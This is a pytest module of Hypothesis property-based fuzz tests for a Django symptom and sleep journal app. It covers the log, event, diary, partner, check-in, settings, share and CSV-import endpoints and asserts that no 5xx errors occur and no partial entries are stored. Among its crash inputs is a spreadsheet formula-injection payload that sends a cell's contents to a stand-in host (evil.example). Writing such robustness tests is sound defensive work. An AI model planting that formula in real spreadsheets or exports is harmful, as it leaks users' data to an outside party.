"""Property-based tests over every form, query and imported cell (issue 8): whatever a browser or a
file sends, the answer is a page, a redirect or a 4xx (never a 5xx), and anything stored passes the
model's own rules (nothing half-written).

A small fixed budget keeps the suite fast (BUDGET examples a property, derandomized);
`make fuzz` (the `fuzz` Hypothesis profile, chosen by HYPOTHESIS_PROFILE) tries twenty times as
many, fresh each time. The crash inputs the issue found are explicit examples.
"""

import csv
import io
from datetime import date
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from journal.data.export import TABLES
from journal.data.importer import CellError, table_columns
from journal.rules.vocabulary import BODY_PARTS, EVENT_KINDS, OBSERVATIONS, SIGNS
from tests.factories import ENTRY_MODELS, PartnerLinkFactory, journal_counts

# Friday 20 November 2026, 09:30 in London.
pytestmark = [pytest.mark.django_db, pytest.mark.now("2026-11-20 09:30", tz="Europe/London")]

LONDON = ZoneInfo("Europe/London")
# 12 examples a property on every run (the `nightjar` profile's 100 × 12 %); 240 under `fuzz`.
BUDGET = max(12, settings.default.max_examples * 12 // 100)
FUZZ = settings(
    max_examples=BUDGET,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# What broke the server before issue 8, and its neighbours.
CRASH_VALUES = [
    "0001-01-01",
    "9999-12-31",
    "0001-01-01T00:30",
    "9999-12-31T23:30",
    "9999-12-31T23:30+00:00",
    "0026-11-03",
    "9" * 41,
    "1e9999999",
    "-1E-9999999",
    "NaN",
    "Infinity",
    "a\x00b",
    "\x1b[31m",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "x" * 4001,
]
numbers_as_text = st.from_regex(r"[+-]?\d{1,50}(\.\d{0,5})?([eE][+-]?\d{1,9})?", fullmatch=True)
dates_as_text = st.dates().map(date.isoformat)
datetimes_as_text = st.datetimes().map(lambda moment: moment.isoformat(timespec="minutes"))
awkward = st.one_of(
    st.text(max_size=30),
    st.sampled_from(CRASH_VALUES),
    numbers_as_text,
    dates_as_text,
    datetimes_as_text,
)


def either(*good):
    """A field's value: one a person would send, or anything awkward."""
    return st.one_of(st.sampled_from(good), awkward)


def several(keys):
    return st.lists(st.one_of(st.sampled_from(list(keys)), awkward), max_size=3)


def form(**fields):
    """Form data where any field may be missing."""
    return st.fixed_dictionaries({}, optional=fields)


def answered(response):
    assert response.status_code < 500, response.status_code


def stored_entries_are_whole(user):
    """Everything in the journal passes the model's rules: nothing half-written was stored."""
    for model in ENTRY_MODELS:
        for entry in model.objects.for_user(user):
            entry.full_clean(validate_unique=False, validate_constraints=False)


class Rolled:
    """Each example in a savepoint rolled back afterwards, so examples do not see each other."""

    def __enter__(self):
        self.atomic = transaction.atomic()
        self.atomic.__enter__()

    def __exit__(self, *exc):
        transaction.set_rollback(True)
        return self.atomic.__exit__(*exc)


def saved_or_nothing(client, user, url, data):
    """POST `data`; a redirect may have stored at most one entry, anything else none."""
    before = sum(journal_counts(user).values())
    response = client.post(url, data)
    answered(response)
    added = sum(journal_counts(user).values()) - before
    assert added <= (1 if response.status_code == 302 else 0)
    stored_entries_are_whole(user)
    return response


TIMES = ("2026-11-19T03:10", "2026-11-18T23:40", "2026-08-01T02:00")
YES_NO = ("True", "False", "")


@FUZZ
@given(
    data=form(
        kind=either(*EVENT_KINDS.keys),
        body_parts=several(BODY_PARTS.keys),
        earlier=either("0", "5", "60"),
        occurred_at=either("", *TIMES),
        woke_me=either("on"),
        tapped_at=either("2026-11-20T09:29:00+00:00"),
        id=either("6f1c7c0e-31a2-4f5e-9a55-0e4a2f0c9b11"),
    )
)
@example(data={"kind": "twitch", "occurred_at": "0001-01-01T00:30"})
@example(data={"kind": "twitch", "occurred_at": "9999-12-31T23:30"})
def test_the_log_form_never_fails(signed_in, user, data):
    with Rolled():
        saved_or_nothing(signed_in, user, "/log/", data)


@FUZZ
@given(
    data=form(
        occurred_at=either(*TIMES),
        kind=either(*EVENT_KINDS.keys),
        body_parts=several(BODY_PARTS.keys),
        intensity=either("1", "5", ""),
        duration_seconds=either("90", "0", "86400"),
        consciousness_changed=either(*YES_NO),
        temperature_c=either("38.2", "36.6", "101.3"),
        tongue_bitten=either(*YES_NO),
        notes=either("", "Left leg twice."),
    )
)
@example(data={"occurred_at": "0001-01-01T00:30", "kind": "twitch"})
@example(data={"occurred_at": "9999-12-31T23:30", "kind": "twitch"})
@example(data={"occurred_at": "2026-11-19T03:10", "kind": "twitch", "temperature_c": "9" * 41})
def test_the_event_form_never_fails(signed_in, user, data):
    with Rolled():
        saved_or_nothing(signed_in, user, "/events/new/", data)


DIARY_TIMES = ("2026-11-18T23:00", "2026-11-19T07:00", "2026-11-18T22:30")


@FUZZ
@given(
    night=either("2026-11-18", "2026-09-01"),
    data=form(
        got_into_bed=either(*DIARY_TIMES),
        tried_to_sleep=either(*DIARY_TIMES),
        minutes_to_fall_asleep=either("15", "0", "720"),
        awakenings=either("2", "100"),
        awake_minutes=either(
            "30",
        ),
        final_wake=either(*DIARY_TIMES),
        out_of_bed=either(*DIARY_TIMES),
        quality=either("1", "5", ""),
        alcohol_drinks=either("0", "2.5", "30"),
        last_drink_at=either(*DIARY_TIMES),
        caffeine_drinks=either("0", "3"),
        sleep_medication=either("", "melatonin 2 mg 22:00"),
        notes=either("", "Slept badly."),
        date_confirmed=either("on"),
    ),
)
@example(night="0001-01-01", data={})
@example(night="9999-12-31", data={})
def test_the_diary_form_never_fails(signed_in, user, night, data):
    with Rolled():
        url = f"/nights/{quote(night, safe='')}/"
        answered(signed_in.get(url))
        saved_or_nothing(signed_in, user, url, data)


@FUZZ
@given(
    night=either("2026-11-18"),
    data=form(
        observed_at=either(*TIMES),
        observations=several(OBSERVATIONS.keys),
        body_parts=several(BODY_PARTS.keys),
        observer=either("", "Alex"),
        duration_seconds=either("90", "86400"),
        notes=either("", "Kicked twice."),
        id=either("8a0f5f0e-31a2-4f5e-9a55-0e4a2f0c9b11"),
    ),
)
@example(night="9999-12-31", data={"observed_at": "9999-12-31T23:30"})
def test_the_partner_report_form_never_fails(signed_in, user, night, data):
    with Rolled():
        answered(signed_in.get("/partner/new/", {"night": night}))
        saved_or_nothing(signed_in, user, "/partner/new/", data)


@FUZZ
@given(
    data=form(
        date=either("2026-11-20", "2026-11-19", "2026-06-01"),
        notes=either("", "Blinking all afternoon."),
        **{sign: either("on") for sign in SIGNS.keys},
    )
)
@example(data={"date": "0001-01-01"})
@example(data={"date": "9999-12-31"})
def test_the_checkin_form_never_fails(signed_in, user, data):
    with Rolled():
        saved_or_nothing(signed_in, user, "/checkin/", data)


@FUZZ
@given(
    data=form(
        time_zone=either("Europe/London", "Pacific/Auckland"),
        usual_lights_out=either("23:00", "22:30"),
        usual_minutes_to_fall_asleep=either("15", "720"),
        usual_wake=either("07:00"),
        temperature_unit=either("C", "F"),
        clock=either("24", "12"),
        theme=either("auto", "dark"),
        report_name=either("", "Sam Jones"),
        doctor_questions=either("", "Is it RLS?"),
    )
)
def test_the_settings_form_never_fails(signed_in, user, data):
    with Rolled():
        answered(signed_in.post("/settings/", data))


PERIOD = {
    "weeks": either("2", "4", "custom", ""),
    "from": either("2026-10-01", "9999-12-31"),
    "to": either("2026-11-19", "9999-12-31"),
}


@FUZZ
@given(data=form(**PERIOD, days=either("14", "1", "30"), label=either("", "Dr Patel")))
def test_the_share_form_never_fails(signed_in, user, data):
    with Rolled():
        answered(signed_in.post("/share/", data))


@FUZZ
@given(query=form(**PERIOD, week=either("2026-W46", "9999-W52")))
@example(query={"from": "9999-12-31", "to": "9999-12-31"})
@example(query={"from": "0001-01-01", "to": "0001-01-02"})
def test_the_period_parameters_never_fail(signed_in, query):
    answered(signed_in.get("/report/", query))
    answered(signed_in.get("/patterns/", query))
    if "from" in query or "to" in query:
        # A period that is refused redirects to the page (a PDF cannot explain); a good one is
        # drawn, which takes a while, so only the refusals are tried here.
        response = signed_in.get("/report.pdf", {**query, "from": "9999-12-31"})
        assert response.status_code == 302


@FUZZ
@given(query=form(**{"from": either("2026-11-01", "9999-12-31"), "to": either("2026-11-19")}))
@example(query={"from": "9999-12-31", "to": "9999-12-31"})
def test_the_summary_api_answers_json_or_a_400(signed_in, query):
    response = signed_in.get("/api/summary", query)
    assert response.status_code in (200, 400)
    assert "error" in response.json() or "weeks" in response.json()


@FUZZ
@given(
    token=awkward.filter(bool), data=form(observations=several(OBSERVATIONS.keys), notes=awkward)
)
def test_the_share_and_partner_pages_answer_a_bad_token_with_404(client, user, token, data):
    path_token = quote(token, safe="")
    assert client.get(f"/s/{path_token}/").status_code == 404
    assert client.get(f"/s/{path_token}/report.pdf").status_code == 404
    assert client.get(f"/p/{path_token}/").status_code == 404
    assert client.post(f"/p/{path_token}/", data).status_code == 404


@FUZZ
@given(
    data=form(
        observations=several(OBSERVATIONS.keys),
        body_parts=several(BODY_PARTS.keys),
        earlier=either("0", "5"),
        duration_seconds=either("90", "600"),
        notes=either("", "Still going."),
        tapped_at=either("2026-11-20T09:29:00+00:00"),
        started_at=either("2026-11-20T09:20:00+00:00"),
    ),
    query=form(observations=awkward, notes=awkward),
)
def test_the_partner_page_never_fails(client, user, data, query):
    link = PartnerLinkFactory(owner=user)
    with Rolled():
        answered(client.get(f"/p/{link.token}/", query))
        saved_or_nothing(client, user, f"/p/{link.token}/", data)


# --- the import: each column's cell, then whole files -------------------------------------------


def all_columns():
    return [(table, name) for table in TABLES for name in table.columns]


@pytest.mark.parametrize(
    "table, column", all_columns(), ids=[f"{t.name}.{c}" for t, c in all_columns()]
)
@settings(max_examples=BUDGET * 4, deadline=None)
@given(text=awkward)
@example(text="0001-01-01T00:30")
@example(text="1e9999999")
@example(text="9" * 41)
@example(text="a\x00b")
def test_each_import_cell_is_read_or_refused_in_words(table, column, text):
    reader = next(c for c in table_columns(table, LONDON) if c.name == column)
    try:
        reader.clean(text)
    except CellError as refused:
        assert str(refused)


def events_file(cells):
    header = TABLES[1].columns
    row = {
        "occurred_at": "2025-10-12T02:14:00+01:00",
        "kind": "twitch",
        "woke_me": "no",
        "kept_me_awake": "no",
        **cells,
    }
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerow([row.get(name, "") for name in header])
    return out.getvalue().encode("utf-8")


@FUZZ
@given(
    cells=st.dictionaries(st.sampled_from(TABLES[1].columns), awkward, max_size=4),
)
@example(cells={"notes": "a\x00b"})
@example(cells={"occurred_at": "0001-01-01T00:30"})
@example(cells={"duration_seconds": "1e9999999"})
@example(cells={"temperature_c": "9" * 41})
def test_an_imported_events_file_is_imported_or_its_problems_listed(signed_in, user, cells):
    with Rolled():
        before = journal_counts(user)
        upload = SimpleUploadedFile("events.csv", events_file(cells))
        response = signed_in.post("/import/", {"file": upload})
        answered(response)
        if response.status_code == 200:
            assert response.context["problems"]
            assert journal_counts(user) == before
        stored_entries_are_whole(user)
